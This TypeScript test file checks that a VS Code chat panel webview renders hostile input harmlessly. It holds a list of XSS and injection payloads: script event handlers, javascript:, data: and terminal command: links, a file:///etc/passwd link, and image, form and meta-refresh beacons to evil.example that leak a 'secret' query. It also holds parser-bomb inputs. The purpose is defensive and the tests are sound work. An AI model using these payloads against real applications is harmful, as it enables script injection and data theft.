import assert from 'node:assert/strict';
import type { View } from '../../../src/protocol/view.ts';
import { sampleView } from '../../support/panel-page/sample-view.ts';
import { panelBench } from './panel-bench.ts';

const attacks: readonly string[] = [
  '<img src=x onerror="globalThis.attacked=1">',
  '<svg onload="globalThis.attacked=1"></svg>',
  '</noscript><img src=https://evil.example/a>',
  '</style><img src=https://evil.example/b>',
  '<style>@import url(https://evil.example/c);</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.attacked=1>',
  '<a href="javascript:globalThis.attacked=1">x</a>',
  '[x](javascript:globalThis.attacked=1)',
  '[x](java\tscript:globalThis.attacked=1)',
  '[x](data:text/html,<script>globalThis.attacked=1</script>)',
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
  '[x](vscode://x.y/z) [x](file:///etc/passwd) [x](\\\\host\\x)',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/d">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/e"><button>Send</button></form>',
  '<link rel="dns-prefetch" href="https://evil.example/f">',
  '<iframe src="https://evil.example/g"></iframe>',
  '<a id=acquireVsCodeApi></a><form id=panelTest><input name=posted></form>',
  '![](https://evil.example/?q=secret) ![a][b]\n\n[b]: https://evil.example/h',
  '```mermaid\ngraph LR; A[<img src=https://evil.example/i>]\n```',
  '$\\includegraphics{https://evil.example/j}$',
  '`<script>globalThis.attacked=1</script>`',
  '```html\n<script>globalThis.attacked=1</script>\n```',
  '[x]("onmouseover="globalThis.attacked=1)',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/k)">',
];

const bombs: readonly [string, string][] = [
  ['brackets', '['.repeat(100_000)],
  ['quotes', '>'.repeat(100_000)],
  ['lists in lists', Array.from({ length: 1_500 }, (_, level) => `${' '.repeat(level)}- x`).join('\n')],
  ['a table of a megabyte', `|a|b|\n|-|-|\n${'|1|2|\n'.repeat(170_000)}`],
  ['emphasis', '_a__a '.repeat(20_000)],
  ['a fence without an end', `\`\`\`js\n${'{'.repeat(300_000)}`],
];

const answering = (text: string): View => ({
  ...sampleView,
  items: [
    { kind: 'user', id: 'u', text },
    { kind: 'answer', id: 'a', text, thinking: text, state: 'done' },
    {
      kind: 'tool',
      id: 't',
      name: text.slice(0, 1_000),
      summary: text.slice(0, 1_000),
      output: text,
      state: 'done',
    },
    { kind: 'notice', id: 'n', level: 'error', text: text.slice(0, 5_000), actions: [] },
  ],
  title: text.slice(0, 1_000),
  model: text.slice(0, 1_000),
});

describe('the panel under attack', () => {
  const open = panelBench();

  for (const attack of attacks) {
    it(`shows ${JSON.stringify(attack.slice(0, 60))} as text and does nothing`, async () => {
      const { page } = await open(answering(attack));
      const dangerous =
        'img, iframe, form, base, style, math, .log script, .log meta, .log link, [onerror], [onload]';
      assert.equal(await page.locator(`.log :is(${dangerous}), body > :is(${dangerous})`).count(), 0);
      assert.equal(await page.evaluate('globalThis.attacked'), undefined);
      const hrefs = await page.evaluate<string[]>('[...document.links].map((link) => link.protocol)');
      assert.deepEqual(
        hrefs.filter((protocol) => !['https:', 'http:', 'mailto:'].includes(protocol)),
        [],
      );
    });
  }

  it('only tells the host when a link is clicked, and goes nowhere', async () => {
    const panel = await open(answering('[x](https://example.com/a)'));
    const url = panel.page.url();
    await panel.page.evaluate(
      'document.addEventListener("click", (event) => { globalThis.reached = event.target.tagName; })',
    );
    await panel.page.getByRole('link').click();
    await panel.page.getByRole('link').click({ button: 'middle' });
    assert.deepEqual((await panel.intents()).slice(-2), [
      { kind: 'openLink', href: 'https://example.com/a' },
      { kind: 'openLink', href: 'https://example.com/a' },
    ]);
    assert.equal(panel.page.url(), url);
    // VS Code listens for clicks on links at the document, and would open them without asking the host.
    assert.equal(await panel.page.evaluate('globalThis.reached'), undefined);
  });

  for (const [name, bomb] of bombs) {
    it(`survives ${name} and goes on`, async () => {
      const panel = await open(answering(bomb));
      await panel.change({
        kind: 'itemAdded',
        item: { kind: 'answer', id: 'z', text: 'Still *here*.', state: 'done' },
      });
      assert.equal(await panel.page.locator('em').last().textContent(), 'here');
    });
  }

  it('drops and reports messages that are none, and goes on', async () => {
    const panel = await open(sampleView);
    for (const message of [
      {},
      { kind: 'evil' },
      { kind: 'snapshot' },
      { kind: 'change', session: 'session-1', revision: 2 },
    ]) {
      await panel.send(message);
    }
    assert.equal((await panel.intents()).filter((intent) => intent.kind === 'panelFailed').length, 4);
    await panel.page.getByRole('separator').waitFor();
  });

  it('leaves no handle to the host where other scripts could take it', async () => {
    const { page } = await open(sampleView);
    const found = await page.evaluate<string[]>(
      'Object.keys(globalThis).filter((key) => typeof globalThis[key]?.postMessage === "function" && ![window, self, parent, top, frames].includes(globalThis[key]))',
    );
    assert.deepEqual(found, []);
  });
});
